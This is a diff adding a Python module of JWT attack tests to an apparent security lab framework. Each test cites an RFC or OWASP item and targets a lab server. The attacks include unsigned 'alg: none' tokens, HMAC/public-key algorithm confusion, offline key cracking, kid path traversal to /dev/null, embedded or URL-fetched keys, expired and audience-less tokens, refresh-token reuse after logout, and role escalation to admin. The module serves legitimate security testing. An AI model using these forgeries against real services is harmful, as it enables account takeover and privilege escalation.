@@ -1,0 +1,226 @@
+"""Attacks on tokens: on the signature, on the key, on the claims, and on the refresh token.
+
+The attacker has an account, and so a good token of their own to take apart.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import Any
+
+from labserver.kit import forge
+from labserver.kit.attacks.attack import Found, attack
+from labserver.kit.attacks.scene import NotTried, Scene
+
+KEY_FILES = (
+    "../static/pages.css",
+    "static/pages.css",
+    "/static/pages.css",
+    "../../static/pages.css",
+    "pages.css",
+)
+
+
+@attack("alg-none", "RFC 8725, 3.1 and 3.2")
+def alg_none(scene: Scene) -> Found:
+    """Write a token in the victim's name, say that it is not signed, and leave the signature out."""
+    header, claims = scene.template()
+    return Found(*scene.present(forge.unsigned(claims, header)))
+
+
+@attack("alg-confusion", "RFC 8725, 3.1")
+def alg_confusion(scene: Scene) -> Found:
+    """Sign with the public key as if it were a shared secret, and call that HS256.
+
+    The server publishes its key; if it lets the token choose the algorithm, it checks an HMAC with the very
+    bytes that everybody has.
+    """
+    header, claims = scene.template()
+    answer = scene.client().get("/.well-known/jwks.json")
+    keys = answer.json().get("keys", []) if answer.ok else []
+    if not keys:
+        raise NotTried("the server publishes no public key")
+    forged = (
+        forge.hmac_signed(claims, header | {"kid": jwk.get("kid")}, secret)
+        for jwk in keys
+        for secret in forge.public_bytes(jwk)
+    )
+    return Found(*scene.present(forged))
+
+
+@attack("weak-key", "RFC 8725, 3.5")
+def weak_key(scene: Scene) -> Found:
+    """Guess the key offline, from one token of one's own and a word list, and sign with it.
+
+    The server sees nothing of the guessing: no request is sent meanwhile.
+    """
+    header, claims = scene.template()
+    if header.get("alg") != "HS256":
+        raise NotTried(f"a signature by {header.get('alg')} has no shared secret to guess")
+    before = len(scene.exchanges)
+    secret, guesses = forge.crack(scene.tokens(scene.target.attacker)["access_token"], forge.words())
+    guessed = f"{guesses} guesses, {len(scene.exchanges) - before} requests sent while guessing"
+    if secret is None:
+        return Found(False, f"{guessed}: no word is the key")
+    got_in, told = scene.present([forge.hmac_signed(claims, header, secret)])
+    return Found(got_in, f"the key is a word, found after {guessed}; {told}")
+
+
+@attack("kid-path", "RFC 8725, 3.10")
+def kid_path(scene: Scene) -> Found:
+    """Name as key a file whose content everybody can fetch: the pages' own style sheet.
+
+    Where the file lies from the server's point of view is guessed, and so is an empty one, /dev/null.
+    """
+    header, claims = scene.template()
+    answer = scene.client().get("/static/pages.css")
+    known = {path: answer.content for path in KEY_FILES} if answer.ok else {}
+    known |= {"/dev/null": b"", "../../../../../../../../dev/null": b""}
+    forged = (forge.hmac_signed(claims, header | {"kid": path}, content) for path, content in known.items())
+    return Found(*scene.present(forged))
+
+
+@attack("trust-jwk", "RFC 8725, 3.10; RFC 7515, 4.1.3")
+def own_key(scene: Scene) -> Found:
+    """Sign with a key of one's own, and send its public half along in the header."""
+    header, claims = scene.template()
+    bare = {name: value for name, value in header.items() if name != "kid"}
+    return Found(
+        *scene.present([forge.signed_by_own_key(claims, one) for one in (header, bare)]),
+    )
+
+
+@attack("no-audience", "RFC 8725, 3.9; RFC 9068, 4")
+def other_audience(scene: Scene) -> Found:
+    """Present a token that the same issuer signed for another service, in several shapes.
+
+    The lab desk signs it, in the place of the other service's login.
+    """
+    header, claims = scene.template()
+    shapes: list[dict[str, Any]] = [
+        claims | {"aud": "another-service"},
+        claims | {"aud": ""},
+        claims | {"aud": []},
+    ]
+    shapes.append({name: value for name, value in claims.items() if name != "aud"})
+    return Found(*scene.present(scene.sign(header, shape) for shape in shapes))
+
+
+@attack("no-expiry", "RFC 7519, 4.1.4; RFC 9068, 4")
+def expired(scene: Scene) -> Found:
+    """Present a token that ended an hour ago, and one that has no end. The lab desk signs them."""
+    header, claims = scene.template()
+    issued = int(claims["iat"])
+    endless = {name: value for name, value in claims.items() if name != "exp"}
+    shapes = (claims | {"iat": issued - 7200, "exp": issued - 3600}, endless)
+    return Found(*scene.present(scene.sign(header, shape) for shape in shapes))
+
+
+@attack("refresh-as-access", "RFC 9068, 2.1; RFC 8725, 3.12")
+def refresh_as_access(scene: Scene) -> Found:
+    """Use a stolen refresh token as if it were an access token: it lives two weeks, not fifteen minutes."""
+    stolen = scene.tokens(scene.target.victim, fresh=True)["refresh_token"]
+    return Found(*scene.present([stolen]))
+
+
+@attack("no-reuse-detection", "RFC 9700, 4.14.2")
+def reuse(scene: Scene) -> Found:
+    """Use a stolen refresh token after the victim has used it."""
+    stolen = scene.tokens(scene.target.victim, fresh=True)["refresh_token"]
+    honest = scene.client(scene.target.victim).post("/token/refresh", json={"refresh_token": stolen})
+    if honest.status_code != 200:
+        raise NotTried(f"an honest refresh is refused: {scene.tell(honest)}")
+    answer = scene.client().post("/token/refresh", json={"refresh_token": stolen})
+    if answer.status_code != 200:
+        return Found(False, scene.tell(answer))
+    got_in, told = scene.present([answer.json()["access_token"]])
+    return Found(got_in, f"{scene.tell(answer)}; {told}")
+
+
+@attack(None, "RFC 7515, 5.2")
+def changed_byte(scene: Scene) -> Found:
+    """Change one character of the victim's good token, in nine places."""
+    return Found(*scene.present(forge.changed(scene.tokens(scene.target.victim)["access_token"])))
+
+
+@attack(None, "RFC 7515, 2; RFC 8725's successor (draft), 3.14")
+def another_spelling(scene: Scene) -> Found:
+    """Spell the victim's good token in another way: padded, loosely written, one part too many."""
+    token = scene.tokens(scene.target.victim)["access_token"]
+    spellings = [text for text in forge.respelt(token) if text.strip() != token]
+    return Found(*scene.present(spellings))
+
+
+@attack(None, "RFC 8725, 3.1")
+def promotion(scene: Scene) -> Found:
+    """Write `admin` into one's own token, keep its signature or drop it, and knock at the admin's door."""
+    own = scene.tokens(scene.target.attacker)["access_token"]
+    head, _, signature = own.split(".")
+    better = forge.segment(forge.fields(own, 1) | {"role": "admin"})
+    client, told = scene.client(), ""
+    for token in (own, f"{head}.{better}.{signature}", f"{head}.{better}.", f"{head}.{better}"):
+        answer = client.get("/token/admin", headers={"Authorization": f"Bearer {token}"})
+        told = scene.tell(answer)
+        if answer.status_code == 200:
+            return Found(True, told)
+    return Found(False, told)
+
+
+@attack(None, "RFC 6750, 2.3; OWASP ASVS 5.0, 14.2.1")
+def token_in_url(scene: Scene) -> Found:
+    """Put the victim's good token into the address, where logs and histories keep it."""
+    token = scene.tokens(scene.target.victim)["access_token"]
+    client, told = scene.client(), ""
+    for name in ("access_token", "token", "Authorization", "bearer_token"):
+        answer = client.get("/token/me", params={name: token})
+        told = scene.tell(answer)
+        if scene.opens(answer):
+            return Found(True, f"{told}, by ?{name}=")
+    return Found(False, told)
+
+
+@attack(None, "RFC 8725, 3.10; OWASP ASVS 5.0, 9.1.3")
+def key_by_url(scene: Scene) -> Found:
+    """Name in the header an address where the key is to be fetched (jku, x5u), or bring a certificate (x5c).
+
+    The address is the target's own, so nothing is sent to anybody else; the secret is empty.
+    """
+    header, claims = scene.template()
+    url = f"{scene.target.url}/.well-known/jwks.json"
+    more: list[dict[str, Any]] = [{"jku": url}, {"x5u": url}, {"x5c": ["AAAA"]}, {"crit": ["exp"]}]
+    return Found(*scene.present(forge.hmac_signed(claims, header | one, b"") for one in more))
+
+
+@attack(None, "RFC 9068, 2.1")
+def access_as_refresh(scene: Scene) -> Found:
+    """Use a stolen access token as if it were a refresh token, and so live longer than it."""
+    stolen = scene.tokens(scene.target.victim)["access_token"]
+    answer = scene.client().post("/token/refresh", json={"refresh_token": stolen})
+    return Found(answer.status_code == 200, scene.tell(answer))
+
+
+@attack(None, "OWASP ASVS 5.0, 7.4.1; RFC 9700, 4.14")
+def refresh_after_logout(scene: Scene) -> Found:
+    """Keep a copy of the refresh token, and use it after the victim has logged out."""
+    stolen = scene.tokens(scene.target.victim, fresh=True)["refresh_token"]
+    out = scene.client(scene.target.victim).post("/token/logout", json={"refresh_token": stolen})
+    family = stolen.partition(".")[0]
+    told, got_in = "", False
+    for token in _copies(stolen, family):
+        answer = scene.client().post("/token/refresh", json={"refresh_token": token})
+        told, got_in = scene.tell(answer), got_in or answer.status_code == 200
+    return Found(got_in, f"logout {out.status_code}, then {told}")
+
+
+@attack(None, "RFC 9700, 4.14.2; OWASP ASVS 5.0, 7.2.3")
+def made_up_refresh(scene: Scene) -> Found:
+    """Know a refresh token's family, and make its secret up."""
+    family = scene.tokens(scene.target.victim, fresh=True)["refresh_token"].partition(".")[0]
+    answer = scene.client().post("/token/refresh", json={"refresh_token": f"{family}.{'A' * 43}"})
+    return Found(answer.status_code == 200, scene.tell(answer))
+
+
+def _copies(token: str, family: str) -> Iterator[str]:
+    yield token
+    yield f"{token}="
+    yield family
